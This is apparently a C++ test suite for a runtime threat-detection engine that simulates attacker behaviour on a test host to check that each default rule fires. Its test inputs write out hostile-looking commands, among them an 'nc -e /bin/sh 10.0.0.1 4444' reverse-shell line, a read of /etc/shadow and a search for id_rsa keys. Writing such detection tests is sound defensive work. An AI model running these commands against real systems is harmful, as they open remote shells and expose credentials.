// Live end to end on Peregrine's own rules/ (every rule that can be triggered safely on a test
// host; "Kernel Module Loaded" needs a real module load and is covered by the rule-data tests of
// tests/compiler/rules only).
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <random>
#include <string>

#include "tests/runtime/live/live_pipeline_fixture.h"

namespace peregrine::runtime::live::testing {
namespace {

const char kDefaultRules[] = PEREGRINE_SOURCE_DIR "/rules";

class DefaultRulesLiveTest : public LivePipelineTest {
 protected:
  static void SetUpTestSuite() { StartPipeline(kDefaultRules, /*workers=*/2); }
  static void TearDownTestSuite() { StopPipeline(); }
};

// A copy of dash under a web server's name (its comm becomes that name at exec).
std::string FakeServer(const std::string& dir, const std::string& name) {
  const std::string path = dir + "/" + name;
  EXPECT_EQ(std::system(("cp /bin/dash " + path).c_str()), 0);
  return path;
}

TEST_F(DefaultRulesLiveTest, ShellSpawnedByWebServer) {
  const std::string dir = TempDir();
  const std::string httpd = FakeServer(dir, "httpd");
  auto alerts = AlertsOf(
      [&] {
        Spawn({httpd, "-c", "/bin/sh -c 'echo x' ; true"});
      },
      "Shell Spawned by Web Server",
      {"\"priority\":\"Critical\"", "\"proc.pname\":\"httpd\"", "\"proc.cmdline\":\"sh -c echo x\"",
       "\"container.id\":\"host\""});
  EXPECT_EQ(alerts.size(), 1u);
  std::system(("rm -rf " + dir).c_str());
}

TEST_F(DefaultRulesLiveTest, WebServerReadsSensitiveFileAndUntrustedRead) {
  const std::string dir = TempDir();
  const std::string nginx = FakeServer(dir, "nginx");
  size_t cursor = Cursor();
  Spawn({nginx, "-c", "exec 3< /etc/shadow"});
  auto alerts = AlertsSince(&cursor);
  int web = 0, untrusted = 0;
  for (const auto& a : alerts) {
    if (a.json.find("\"proc.name\":\"nginx\"") == std::string::npos &&
        a.json.find("\"proc.cmdline\":\"nginx -c exec 3< /etc/shadow\"") == std::string::npos) {
      continue;
    }
    if (a.rule == "Web Server Reads Sensitive File") {
      ++web;
      EXPECT_NE(a.json.find("\"fd.name\":\"/etc/shadow\""), std::string::npos) << a.json;
    }
    if (a.rule == "Sensitive File Read by Untrusted Program") ++untrusted;
  }
  EXPECT_EQ(web, 1);
  EXPECT_EQ(untrusted, 1);  // rule_matching=all: both rules match the same open
  std::system(("rm -rf " + dir).c_str());
}

TEST_F(DefaultRulesLiveTest, CredentialSearch) {
  const std::string dir = TempDir();
  auto alerts = AlertsOf(
      [&] {
        Spawn({"/usr/bin/find", dir, "-name", "id_rsa"});
      },
      "Credential Search", {"\"priority\":\"Warning\"", "\"proc.name\":\"find\""});
  EXPECT_EQ(alerts.size(), 1u);
  std::system(("rm -rf " + dir).c_str());
}

// Opens `path` for writing from a child named `comm`.
void WriteFrom(const std::string& comm, const std::string& path, int flags = O_WRONLY | O_CREAT) {
  SpawnOptions o;
  o.comm = comm;
  EXPECT_EQ(Spawn({}, o,
                  [&] {
                    const int fd = open(path.c_str(), flags, 0600);
                    if (fd < 0) return 1;
                    close(fd);
                    return 0;
                  }),
            0)
      << path;
}

TEST_F(DefaultRulesLiveTest, WriteBelowEtcBinaryDirectoryAndRootHome) {
  const std::string tag = std::to_string(getpid());
  const std::string etc = "/etc/pg_live_" + tag;
  const std::string bin = "/usr/local/bin/pg_live_" + tag;
  const std::string root = "/root/.ssh/pg_live_" + tag;
  mkdir("/root/.ssh", 0700);
  EXPECT_EQ(AlertsOf([&] { WriteFrom("pg_writer", etc); }, "Write Below Etc",
                     {"\"priority\":\"Error\"", "\"fd.name\":\"" + etc + "\""})
                .size(),
            1u);
  EXPECT_EQ(AlertsOf([&] { WriteFrom("pg_writer", bin); }, "Write Below Binary Directory",
                     {"\"priority\":\"Error\"", "\"fd.name\":\"" + bin + "\""})
                .size(),
            1u);
  EXPECT_EQ(AlertsOf([&] { WriteFrom("pg_writer", root); }, "Write Below Root Home",
                     {"\"priority\":\"Error\"", "\"fd.name\":\"" + root + "\""})
                .size(),
            1u);
  unlink(etc.c_str());
  unlink(bin.c_str());
  unlink(root.c_str());
}

TEST_F(DefaultRulesLiveTest, LogFileCleared) {
  const std::string log = "/var/log/pg_live_default_" + std::to_string(getpid()) + ".log";
  auto alerts =
      AlertsOf([&] { WriteFrom("pg_wiper", log, O_WRONLY | O_CREAT | O_TRUNC); },
               "Log File Cleared", {"\"priority\":\"Warning\"", "\"fd.name\":\"" + log + "\""});
  EXPECT_EQ(alerts.size(), 1u);
  unlink(log.c_str());
}

TEST_F(DefaultRulesLiveTest, ExecutionFromTemporaryDirectory) {
  const std::string dir = TempDir();
  ASSERT_EQ(std::system(("cp /bin/true " + dir + "/pg_tmp_true").c_str()), 0);
  auto alerts =
      AlertsOf([&] { Spawn({dir + "/pg_tmp_true"}); }, "Execution from Temporary Directory",
               {"\"proc.exepath\":\"" + dir + "/pg_tmp_true\""});
  EXPECT_EQ(alerts.size(), 1u);
  std::system(("rm -rf " + dir).c_str());
}

TEST_F(DefaultRulesLiveTest, FilelessExecution) {
  auto alerts = AlertsOf(
      [] {
        Spawn({}, {}, [] {
          const int fd = memfd_create("pg_fileless", 0);
          const int in = open("/bin/true", O_RDONLY);
          char buf[65536];
          ssize_t n;
          while ((n = read(in, buf, sizeof(buf))) > 0) {
            if (write(fd, buf, static_cast<size_t>(n)) != n) return 3;
          }
          char* const argv[] = {const_cast<char*>("pg_fileless"), nullptr};
          char* const envp[] = {nullptr};
          fexecve(fd, argv, envp);
          return 4;
        });
      },
      "Fileless Execution", {"\"priority\":\"Critical\""});
  EXPECT_EQ(alerts.size(), 1u);
}

TEST_F(DefaultRulesLiveTest, NetcatReverseShell) {
  const std::string dir = TempDir();
  ASSERT_EQ(std::system(("cp /bin/true " + dir + "/nc").c_str()), 0);
  auto alerts = AlertsOf(
      [&] {
        Spawn({dir + "/nc", "-e", "/bin/sh", "10.0.0.1", "4444"});
      },
      "Netcat or Socat Reverse Shell",
      {"\"priority\":\"Critical\"", "\"proc.cmdline\":\"nc -e /bin/sh 10.0.0.1 4444\""});
  EXPECT_EQ(alerts.size(), 1u);
  std::system(("rm -rf " + dir).c_str());
}

TEST_F(DefaultRulesLiveTest, SetuidToRootByLoggedInUserProcess) {
  SpawnOptions o;
  o.comm = "pg_escalate";
  auto alerts = AlertsOf(
      [&] {
        EXPECT_EQ(Spawn({}, o,
                        [] {
                          // A login session of uid 1000 (the audit login uid is set once).
                          FILE* f = std::fopen("/proc/self/loginuid", "w");
                          if (f == nullptr) return 1;
                          std::fputs("1000", f);
                          if (std::fclose(f) != 0) return 2;
                          return setuid(0) == 0 ? 0 : 3;
                        }),
                  0);
      },
      "Setuid to Root by Logged-In User Process",
      {"\"priority\":\"Critical\"", "\"user.loginuid\":1000", "\"proc.name\":\"pg_escalate\""});
  EXPECT_EQ(alerts.size(), 1u);
}

TEST_F(DefaultRulesLiveTest, PtraceAttachToProcess) {
  const pid_t target = fork();
  if (target == 0) {
    pause();
    _exit(0);
  }
  SpawnOptions o;
  o.comm = "pg_tracer";
  auto alerts = AlertsOf(
      [&] {
        Spawn({}, o, [&] {
          if (ptrace(PTRACE_ATTACH, target, nullptr, nullptr) != 0) return 1;
          waitpid(target, nullptr, __WALL);
          ptrace(PTRACE_DETACH, target, nullptr, nullptr);
          return 0;
        });
      },
      "Ptrace Attach to Process", {"\"priority\":\"Warning\"", "\"proc.name\":\"pg_tracer\""});
  EXPECT_EQ(alerts.size(), 1u);
  kill(target, SIGKILL);
  waitpid(target, nullptr, 0);
}

TEST_F(DefaultRulesLiveTest, InteractiveShellInContainer) {
  std::mt19937_64 rng(static_cast<uint64_t>(getpid()) ^ static_cast<uint64_t>(time(nullptr)));
  std::string hex;
  while (hex.size() < 64) {
    char b[17];
    std::snprintf(b, sizeof(b), "%016llx", static_cast<unsigned long long>(rng()));
    hex += b;
  }
  const std::string dir = CgroupResolver().mount() + "/docker-" + hex + ".scope";
  ASSERT_EQ(mkdir(dir.c_str(), 0755), 0) << dir;
  SpawnOptions runtime;
  runtime.comm = "containerd-shim";
  runtime.cgroup_dir = dir;
  auto alerts = AlertsOf(
      [&] {
        Spawn({}, runtime, [] {
          SpawnOptions shell;
          shell.with_pty = true;
          return Spawn({"/bin/bash", "-c", "echo in-container"}, shell);
        });
      },
      "Interactive Shell in Container",
      {"\"priority\":\"Notice\"", "\"container.id\":\"" + hex.substr(0, 12) + "\"",
       "\"proc.name\":\"bash\""});
  EXPECT_EQ(alerts.size(), 1u);
  rmdir(dir.c_str());
}

// A network namespace with a veth pair: the host side 10.213.0.1/24, the namespace side
// 10.213.0.2/24 with TCP listeners. Nothing leaves the machine.
class TestNetns {
 public:
  TestNetns() : name_("pg_live_" + std::to_string(getpid())) {
    const std::string n = name_;
    ok_ = Run("ip netns add " + n) &&
          Run("ip link add " + n + "h type veth peer name " + n + "n") &&
          Run("ip link set " + n + "n netns " + n) &&
          Run("ip addr add 10.213.0.1/24 dev " + n + "h") && Run("ip link set " + n + "h up") &&
          Run("ip -n " + n + " addr add 10.213.0.2/24 dev " + n + "n") &&
          Run("ip -n " + n + " link set " + n + "n up") && Run("ip -n " + n + " link set lo up");
  }
  ~TestNetns() {
    Run("ip link del " + name_ + "h 2>/dev/null");
    Run("ip netns del " + name_);
  }
  bool ok() const { return ok_; }
  const std::string& name() const { return name_; }

 private:
  static bool Run(const std::string& cmd) { return std::system(cmd.c_str()) == 0; }
  std::string name_;
  bool ok_ = false;
};

// Connects from a child named `comm` (host namespace) to 10.213.0.2:`port`, where a listener
// runs inside the namespace; returns the child's exit status.
int ConnectAs(const TestNetns& ns, const std::string& comm, int port) {
  const pid_t listener = fork();
  if (listener == 0) {
    const std::string path = "/var/run/netns/" + ns.name();
    const int fd = open(path.c_str(), O_RDONLY);
    if (fd < 0 || setns(fd, CLONE_NEWNET) != 0) _exit(1);
    const int s = socket(AF_INET, SOCK_STREAM, 0);
    int one = 1;
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(static_cast<uint16_t>(port));
    inet_pton(AF_INET, "10.213.0.2", &a.sin_addr);
    if (bind(s, reinterpret_cast<sockaddr*>(&a), sizeof(a)) != 0 || listen(s, 4) != 0) _exit(2);
    const int c = accept(s, nullptr, nullptr);
    close(c);
    _exit(0);
  }
  usleep(200000);  // let the listener bind
  SpawnOptions o;
  o.comm = comm;
  const int status = Spawn({}, o, [port] {
    const int s = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(static_cast<uint16_t>(port));
    inet_pton(AF_INET, "10.213.0.2", &a.sin_addr);
    const int r = connect(s, reinterpret_cast<sockaddr*>(&a), sizeof(a));
    close(s);
    return r == 0 ? 0 : 1;
  });
  kill(listener, SIGKILL);
  waitpid(listener, nullptr, 0);
  return status;
}

TEST_F(DefaultRulesLiveTest, NetworkRulesInsideATestNamespace) {
  TestNetns ns;
  ASSERT_TRUE(ns.ok()) << "could not set up the test network namespace";
  EXPECT_EQ(
      AlertsOf([&] { EXPECT_EQ(ConnectAs(ns, "nginx", 4444), 0); },
               "Web Server Outbound Connection to Unusual Port",
               {"\"priority\":\"Warning\"", "\"proc.name\":\"nginx\"", "\"fd.name\":\"10.213.0.1:"})
          .size(),
      1u);
  EXPECT_EQ(AlertsOf([&] { EXPECT_EQ(ConnectAs(ns, "pg_miner", 3333), 0); },
                     "Connection to Crypto Mining Pool Port",
                     {"\"priority\":\"Critical\"", "\"proc.name\":\"pg_miner\""})
                .size(),
            1u);
}

}  // namespace
}  // namespace peregrine::runtime::live::testing
